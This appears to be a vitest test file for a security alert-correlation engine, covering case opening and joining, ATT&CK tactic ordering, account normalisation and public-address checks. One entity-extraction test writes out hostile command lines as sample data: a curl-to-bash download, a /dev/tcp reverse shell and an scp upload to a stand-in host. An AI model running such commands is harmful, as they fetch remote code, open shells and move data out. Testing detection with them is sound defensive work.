import { hourMs } from '@parapet/contract/rules/duration.ts';
import { tacticsValue } from '@parapet/contract/rules/grouping.ts';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { accountOf } from '../../domain/accounts.ts';
import { tacticsInOrder } from '../../domain/facts.ts';
import { aboutAlert, type EventFields } from './correlation.entities.ts';
import { type Candidate, judge, type Sighting } from './correlation.judge.ts';
import { type Entity, groupingOf, isOutside, joiningRules, keyOf, openingRules } from './correlation.rules.ts';

const start = Date.parse('2026-05-04T10:00:00Z');
const device = (value: string): Entity => ({ kind: 'device', value });
const user = (value: string): Entity => ({ kind: 'user', value });
const address = (value: string): Entity => ({ kind: 'address', value });

let next = 0;
const alert = (minutes: number, criticality: number, entities: Entity[], more: Partial<Candidate> = {}): Candidate => ({
  id: ++next,
  at: start + minutes * 60_000,
  ruleId: 1,
  criticality,
  tactics: [],
  party: entities.find((entity) => entity.kind === 'device')?.value ?? '',
  entities,
  ...more,
});
/** Alert ids of each case. */
const groups = (alerts: Candidate[], ...more: [] | [Parameters<typeof judge>[1], Parameters<typeof judge>[2]]) => {
  const { joined } = judge(alerts, more[0] ?? [], more[1] ?? new Map());
  const byCase = Map.groupBy(joined, ({ caseId }) => caseId);
  return [...byCase.values()]
    .map((list) => list.map(({ alertId }) => alertId).sort((a, b) => a - b))
    .sort((a, b) => a[0]! - b[0]!);
};

test('a critical rule on further devices within an hour is one case, a rule that was on several before is not', () => {
  const outbreak = (minutes: number, name: string, criticality = 5) =>
    alert(minutes, criticality, [device(name), { kind: 'outbreak', value: '1' }]);
  const alerts = ['a', 'b', 'c', 'd'].map((name, index) => outbreak(index * 10, name));
  expect(groups(alerts)).toEqual([alerts.map(({ id }) => id)]);
  expect(groups([outbreak(0, 'a'), outbreak(61, 'b')])).toHaveLength(2);
  const key = keyOf({ kind: 'outbreak', value: '1' });
  const before = ['x', 'y'].map((party, index) => ({ party, firstAt: start - (index + 1) * hourMs }));
  const { opened } = judge([outbreak(0, 'a'), outbreak(10, 'b')], [], new Map(), new Map([[key, before]]));
  expect(opened).toHaveLength(2);
});

describe('opening', () => {
  test.each([
    [5, 1],
    [4, 1],
    [3, 0],
    [2, 0],
    [1, 0],
  ])('one alert of criticality %i opens %i cases', (criticality, cases) => {
    expect(judge([alert(0, criticality, [device('a')])], [], new Map()).opened).toHaveLength(cases);
  });

  const chain = (criticalities: number[], entity = device('a')) =>
    ['initial-access', 'execution', 'persistence', 'exfiltration'].map((tactic, index) =>
      alert(index * 10, criticalities[index]!, [entity], { ruleId: 10 + index, tactics: [tactic] }),
    );
  test('opens a case for tactics in attack order only', () => {
    const alerts = chain([3, 3, 2, 2]);
    expect(groups(alerts.slice(0, 3))).toEqual([alerts.slice(0, 3).map(({ id }) => id)]);
    const backwards = chain([3, 3, 2, 2]).slice(0, 3);
    backwards.forEach((each, index) => {
      each.at = start - index * 60_000;
    });
    expect(groups(backwards)).toEqual([]);
  });
  test('opens a case for a step and its aim, in this order and near in time', () => {
    const step = (minutes: number, ruleId: number, tactic: string, criticality = 3) =>
      alert(minutes, criticality, [device('a')], { ruleId, tactics: [tactic] });
    expect(groups([step(0, 1, 'collection'), step(15, 2, 'exfiltration')])).toHaveLength(1);
    expect(groups([step(0, 1, 'persistence'), step(15, 2, 'command-and-control')])).toHaveLength(1);
    expect(groups([step(0, 1, 'exfiltration'), step(15, 2, 'collection')])).toEqual([]);
    expect(groups([step(0, 1, 'discovery'), step(15, 2, 'exfiltration')])).toEqual([]);
    expect(groups([step(0, 1, 'collection'), step(15, 2, 'exfiltration', 2)])).toEqual([]);
    expect(groups([step(0, 1, 'collection'), step(61, 2, 'exfiltration')])).toEqual([]);
    expect(groups([{ ...step(0, 1, 'collection'), isUsual: true }, step(15, 2, 'exfiltration')])).toEqual([]);
  });
  test('opens a case for the steps and aims of the set, and counts a fleet within its hours', () => {
    const set = groupingOf(
      new Map([
        ['aim.steps', tacticsValue(['discovery'])],
        ['aim.aims', tacticsValue(['impact', 'exfiltration'])],
        ['fleet.windowMinutes', 120],
      ]),
    );
    expect(set.limits.habits.fleetMs).toBe(2 * hourMs);
    const opened = (step: string, aim: string) =>
      judge(
        [step, aim].map((tactic, index) => alert(index * 15, 3, [device('a')], { ruleId: index, tactics: [tactic] })),
        [],
        new Map(),
        new Map(),
        set,
      ).opened.length;
    expect([
      opened('discovery', 'impact'),
      opened('collection', 'exfiltration'),
      opened('discovery', 'command-and-control'),
    ]).toEqual([1, 0, 0]);
  });
  test('opens none for low severities, two devices or a long time', () => {
    expect(groups(chain([2, 2, 2, 2]))).toEqual([]);
    expect(groups(chain([1, 1, 1, 1]))).toEqual([]);
    const [a, b, c] = chain([3, 3, 3, 3]);
    expect(groups([a!, { ...b!, entities: [device('b')] }, { ...c!, entities: [device('c')] }])).toEqual([]);
    expect(groups([a!, b!, { ...c!, at: start + openingRules.sequence.windowMs + hourMs }])).toEqual([]);
  });
  test('opens one for four Medium rules on one user', () => {
    const alerts = [1, 2, 3, 4].map((ruleId) => alert(ruleId, 3, [user('ana')], { ruleId, party: `d${ruleId}` }));
    expect(groups(alerts)).toEqual([alerts.map(({ id }) => id)]);
    expect(groups(alerts.map((each) => ({ ...each, ruleId: 1 })))).toEqual([]);
  });
  test('includes recent earlier alerts of at least Medium', () => {
    const [early, low, just, severe] = [
      alert(-180, 3, [device('a')]),
      alert(-20, 2, [device('a')]),
      alert(-30, 3, [device('a')]),
      alert(0, 5, [device('a')]),
    ];
    expect(groups([early, low, just, severe])).toEqual([[just.id, severe.id].sort((a, b) => a - b)]);
  });
});

describe('joining', () => {
  test.each([
    ['the same device within the window', device('a'), device('a'), 23 * 60, true],
    ['the same device a day and a half later, severe', device('a'), device('a'), 36 * 60, true],
    ['the same device long after', device('a'), device('a'), 73 * 60, false],
    ['another device', device('a'), device('b'), 1, false],
    ['the same user', user('ana'), user('ana'), 60, true],
    ['the same address', address('203.0.113.9'), address('203.0.113.9'), 60, true],
    ['a user named like a device', user('a'), device('a'), 1, false],
  ])('%s', (_what, first, second, minutes, isOne) => {
    const alerts = [alert(0, 4, [first]), alert(minutes as number, 4, [second])];
    expect(groups(alerts)).toHaveLength(isOne ? 1 : 2);
  });
  test('joins what spreads from a case by one severe address', () => {
    const many = (criticality: number) =>
      Array.from({ length: 9 }, (_, index) => alert(index, criticality, [address('203.0.113.9')], { party: `d${index}` }));
    expect(groups(many(4))).toHaveLength(1);
    expect(groups(many(3))).toEqual([]);
    // Of a case's weaker alerts nothing spreads.
    const [first, ...others] = many(3);
    const severe = alert(0, 4, [device('x')], { party: 'd0' });
    expect(groups([severe, { ...first!, entities: [device('x'), address('203.0.113.9')] }, ...others])).toEqual([
      [severe.id, first!.id].sort((a, b) => a - b),
    ]);
  });
  test('ignores an address that many parties had before', () => {
    const alerts = [0, 1].map((index) => alert(index, 4, [address('203.0.113.9')], { party: `d${index}` }));
    const parties = new Map([
      [keyOf(address('203.0.113.9')), ['a', 'b', 'c', 'd', 'e'].map((party) => ({ party, firstAt: start - hourMs }))],
    ]);
    expect(judge(alerts, [], new Map(), parties).opened).toHaveLength(2);
    expect(judge(alerts, [], new Map()).opened).toHaveLength(1);
  });
  test('joins sign-ins from the case’s devices, not by internal address alone', () => {
    const origin: Entity = { kind: 'origin', value: '10.0.0.5' };
    const first = alert(0, 4, [device('ws'), { kind: 'host', value: '10.0.0.5' }]);
    expect(groups([first, alert(30, 4, [device('server'), origin])])).toHaveLength(1);
    expect(groups([alert(0, 4, [device('a'), origin]), alert(1, 4, [device('b'), origin])])).toHaveLength(2);
  });
  test('bounds the time span of a case', () => {
    const daily = Array.from({ length: 10 }, (_, index) => alert(index * 20 * 60, 4, [device('a')]));
    const found = groups(daily);
    expect(found.length).toBeGreaterThan(1);
    expect(Math.max(...found.map((list) => list.length))).toBeLessThan(6);
  });
  test('joins alerts near an existing case', () => {
    const seen = new Map<string, Sighting[]>([
      [keyOf(device('a')), [{ alertId: 900, at: start - hourMs, party: 'a', ruleId: 1, criticality: 4, tactics: [], caseId: 7 }]],
    ]);
    const one = alert(0, 4, [device('a')]);
    expect(judge([one], [{ id: 7, firstAt: start - hourMs }], seen)).toMatchObject({
      joined: [{ caseId: 7, alertId: one.id }],
      opened: [],
    });
    expect(judge([one], [], seen).opened).toHaveLength(1);
  });
});

describe('two cases that one alert joins', () => {
  const at = start - hourMs;
  const seen = (...list: [Entity, number, number?][]) =>
    new Map<string, Sighting[]>(
      list.map(([entity, caseId, criticality = 4], index) => [
        keyOf(entity),
        [{ alertId: 900 + index, at, party: entity.value, ruleId: 1, criticality, tactics: [], caseId }],
      ]),
    );
  const both = () => [alert(0, 4, [device('a'), user('ana')])];
  const around = seen([device('a'), 7], [user('ana'), 8]);
  test('become one: the later goes into the earlier', () => {
    const cases = [
      { id: 7, firstAt: at },
      { id: 8, firstAt: at - hourMs },
    ];
    const [one] = both();
    const { joined, bridges } = judge([one!], cases, around);
    expect(joined).toMatchObject([{ caseId: 8 }]);
    expect(bridges).toMatchObject([{ from: 7, into: 8, alertId: one!.id, isRelatedOnly: false }]);
  });
  test('stay where both are worked on; otherwise the untouched one goes into the other', () => {
    const [open, worked] = [{ firstAt: at }, { firstAt: at, isAttended: true }];
    expect(
      judge(
        both(),
        [
          { id: 7, ...open },
          { id: 8, ...worked },
        ],
        around,
      ).bridges,
    ).toMatchObject([{ from: 7, into: 8, isRelatedOnly: false }]);
    expect(
      judge(
        both(),
        [
          { id: 7, ...worked },
          { id: 8, ...worked },
        ],
        around,
      ).bridges,
    ).toMatchObject([{ isRelatedOnly: true }]);
  });
  test.each([
    [
      'once a person has separated them',
      [
        { id: 7, firstAt: at, apartFrom: [8] },
        { id: 8, firstAt: at },
      ],
      around,
      4,
    ],
    [
      'with more alerts than a case may have',
      [
        { id: 7, firstAt: at, alerts: 4_000 },
        { id: 8, firstAt: at, alerts: 2_000 },
      ],
      around,
      4,
    ],
    [
      'of times far apart',
      [
        { id: 7, firstAt: at },
        { id: 8, firstAt: at - 80 * hourMs },
      ],
      around,
      4,
    ],
    [
      'by an alert of Medium',
      [
        { id: 7, firstAt: at },
        { id: 8, firstAt: at },
      ],
      around,
      3,
    ],
    [
      'by a Medium alert of the other case',
      [
        { id: 7, firstAt: at },
        { id: 8, firstAt: at },
      ],
      seen([device('a'), 7], [user('ana'), 8, 3]),
      4,
    ],
  ])('stay two %s', (_what, cases, sightings, criticality) => {
    expect(judge([alert(0, criticality, [device('a'), user('ana')])], cases, sightings)).toMatchObject({ bridges: [] });
  });
  test('become one at once within a run', () => {
    const [a, b] = [alert(0, 4, [device('a')]), alert(1, 4, [device('b')])];
    const third = alert(2, 4, [device('a'), { kind: 'caller', value: 'b' }]);
    expect(groups([a, b, third])).toEqual([[a.id, b.id, third.id]]);
    expect(judge([a, b, third], [], new Map())).toMatchObject({ opened: [{ alertId: a.id }], bridges: [] });
  });
});

describe('a usual alert', () => {
  const rules = [1, 2, 3, 4];
  const medium = (isUsual: boolean) => rules.map((ruleId) => alert(ruleId, 3, [device('a')], { ruleId, isUsual }));
  test('opens no case together with others', () => {
    expect(groups(medium(false))).toHaveLength(1);
    expect(groups(medium(true))).toEqual([]);
  });
  test('joins and opens as ever when severe', () => {
    const [usual] = medium(true);
    const severe = alert(10, 4, [device('a')], { isUsual: true });
    expect(groups([usual!, severe])).toEqual([[usual!.id, severe.id]]);
  });
});

test('assigns each alert to at most one case, deterministically', () => {
  const entity = fc.oneof(
    fc.constantFrom('a', 'b', 'c').map(device),
    fc.constantFrom('ana', 'bo').map(user),
    fc.constantFrom('203.0.113.1', '203.0.113.2').map(address),
  );
  const one = fc.record({
    minutes: fc.integer({ min: 0, max: 9000 }),
    criticality: fc.integer({ min: 1, max: 5 }),
    ruleId: fc.integer({ min: 1, max: 6 }),
    entities: fc.array(entity, { maxLength: 3 }),
  });
  fc.assert(
    fc.property(fc.array(one, { maxLength: 40 }), fc.infiniteStream(fc.nat()), (list, order) => {
      const alerts = list.map(({ minutes, criticality, ruleId, entities }, index) => ({
        ...alert(minutes, criticality, entities, { ruleId, tactics: ['execution'] }),
        id: index + 1,
      }));
      const answer = judge(alerts, [], new Map());
      expect(new Set(answer.joined.map(({ alertId }) => alertId)).size).toBe(answer.joined.length);
      // Every severe alert stands in a case, and each case has one at least Medium.
      const placed = new Set(answer.joined.map(({ alertId }) => alertId));
      for (const each of alerts) if (each.criticality >= 4) expect(placed.has(each.id)).toBe(true);
      for (const { id } of answer.opened) {
        const members = answer.joined.filter(({ caseId }) => caseId === id).map(({ alertId }) => alerts[alertId - 1]!);
        expect(Math.max(...members.map(({ criticality }) => criticality))).toBeGreaterThanOrEqual(3);
      }
      const shuffled = alerts
        .map((each) => ({ each, key: order.next().value }))
        .sort((a, b) => a.key - b.key)
        .map(({ each }) => each);
      expect(judge(shuffled, [], new Map())).toEqual(answer);
    }),
    { numRuns: 200 },
  );
});

test('gives every rule a readable sentence', () => {
  for (const { sentence } of [...joiningRules, ...Object.values(openingRules)]) expect(sentence).toMatch(/^[a-z].{10,}[^.]$/);
  expect(new Set(joiningRules.map(({ id }) => id)).size).toBe(joiningRules.length);
});

test.each([
  ['ALDER\\JKowalczyk', 'jkowalczyk'],
  ['jkowalczyk@alder.example', 'jkowalczyk'],
  ['jkowalczyk', 'jkowalczyk'],
  ['NT AUTHORITY\\SYSTEM', undefined],
  ['NT-AUTORITÄT\\Netzwerkdienst', undefined],
  ['Autorite NT\\x', undefined],
  ['SYSTEM', undefined],
  ['root', undefined],
  ['-', undefined],
  ['', undefined],
  [null, undefined],
  ['ALDER\\WS-12$', undefined],
  ['LOCAL SERVICE', undefined],
  ['Window Manager\\DWM-3', undefined],
  ['S-1-5-18', undefined],
  ['1000', undefined],
])('who stands behind %s: %s', (name, account) => expect(accountOf(name)).toBe(account));

test.each([
  ['203.0.113.9', true],
  ['10.1.2.3', false],
  ['172.31.0.1', false],
  ['192.168.1.1', false],
  ['100.64.0.1', false],
  ['127.0.0.1', false],
  ['169.254.1.1', false],
  ['224.0.0.1', false],
  ['2001:db8::1', true],
  ['fe80::1', false],
  ['fd00::1', false],
  ['::1', false],
  ['::ffff:10.0.0.1', false],
  ['no address', false],
])('%s is public: %s', (value, answer) => expect(isOutside(value)).toBe(answer));

test('counts tactics in matrix order, one per alert', () => {
  const at = (...tactics: string[][]) => tacticsInOrder(tactics.map((each, index) => ({ at: index, tactics: each })));
  expect(at(['initial-access'], ['execution'], ['impact'])).toBe(3);
  expect(at(['impact'], ['execution'], ['initial-access'])).toBe(1);
  expect(at(['initial-access', 'execution', 'persistence'])).toBe(1);
  expect(at(['execution'], ['execution'])).toBe(1);
  expect(at(['no tactic'])).toBe(0);
  const strong = (...steps: [string, boolean][]) =>
    tacticsInOrder(
      steps.map(([tactic, isStrong], index) => ({ at: index, tactics: [tactic], isStrong })),
      (step) => step.isStrong,
      2,
    );
  expect(strong(['execution', true], ['discovery', false], ['impact', true])).toBe(3);
  expect(strong(['execution', true], ['discovery', false], ['impact', false])).toBe(0);
  // The strong step before does not belong to the chain.
  expect(strong(['impact', true], ['execution', true], ['discovery', false])).toBe(0);
});

describe('entities of an alert', () => {
  const event = (more: Partial<EventFields>): EventFields =>
    ({
      alertId: 1,
      at: new Date(start),
      ...Object.fromEntries(
        [
          'sourceIp',
          'destinationIp',
          'hostIp',
          'processId',
          'parentId',
          'processName',
          'executable',
          'processHash',
          'fileHash',
          'filePath',
          'dllHash',
          'dllPath',
        ].map((name) => [name, null]),
      ),
      ...more,
    }) as EventFields;
  const about = (more: Partial<EventFields>) =>
    aboutAlert({ at: start, deviceName: 'WS-1', userName: 'ana', isSharedDevice: false }, [event(more)]);
  const sha256 = 'A'.repeat(64);

  test('exclude hashes of common programs, which are still shown', () => {
    const system = about({ executable: 'C:\\Windows\\System32\\cmd.exe', processHash: { sha256 } });
    expect(system.entities.filter(({ kind }) => kind === 'hash')).toEqual([]);
    expect(system.artifacts).toContainEqual({ kind: 'hash', value: sha256.toLowerCase(), at: start });
    expect(about({ executable: 'C:\\ProgramData\\lock.exe', processHash: { sha256 } }).entities).toContainEqual({
      kind: 'hash',
      value: sha256.toLowerCase(),
    });
  });
  test('use an internal address as origin unless it is the device’s own', () => {
    expect(about({ sourceIp: '10.0.0.5' }).entities).toContainEqual({ kind: 'origin', value: '10.0.0.5' });
    expect(about({ sourceIp: '10.0.0.5', hostIp: ['10.0.0.5'] }).entities).not.toContainEqual({
      kind: 'origin',
      value: '10.0.0.5',
    });
  });
  test('contain the public addresses that a command contacts by number', () => {
    const addresses = (commandLine: unknown) =>
      about({ commandLine }).entities.flatMap(({ kind, value }) => (kind === 'address' ? [value] : []));
    expect(addresses('curl http://203.0.113.67/i.sh|bash')).toEqual(['203.0.113.67']);
    expect(addresses('bash -i >& /dev/tcp/203.0.113.67/4444 0>&1')).toEqual(['203.0.113.67']);
    expect(addresses('scp a.tgz root@203.0.113.68:/tmp')).toEqual(['203.0.113.68']);
    expect(addresses('curl http://10.20.1.5/a; ping 203.0.113.67; app --version=1.2.3.4')).toEqual([]);
    expect(addresses({ odd: 1 })).toEqual([]);
  });
  test('exclude shared cloud services', () => {
    const { entities, artifacts } = aboutAlert(
      { at: start, deviceName: 'Microsoft 365', userName: null, isSharedDevice: true },
      [],
    );
    expect(entities).toEqual([]);
    expect(artifacts).toMatchObject([{ kind: 'device', value: 'Microsoft 365' }]);
  });
  test('stay bounded for any input', () => {
    fc.assert(
      fc.property(
        fc.record({
          sourceIp: fc.anything(),
          destinationIp: fc.anything(),
          hostIp: fc.anything(),
          processId: fc.anything(),
          executable: fc.anything(),
          processHash: fc.anything(),
          fileHash: fc.anything(),
        }),
        (fields) => {
          const { entities, artifacts } = about(fields);
          for (const { value } of [...entities, ...artifacts]) expect(value.length).toBeLessThanOrEqual(500);
        },
      ),
    );
    expect(
      about({ processId: 'x'.repeat(100_000), executable: 'y'.repeat(100_000) }).entities.every(
        ({ value }) => value.length <= 300,
      ),
    ).toBe(true);
  });
});
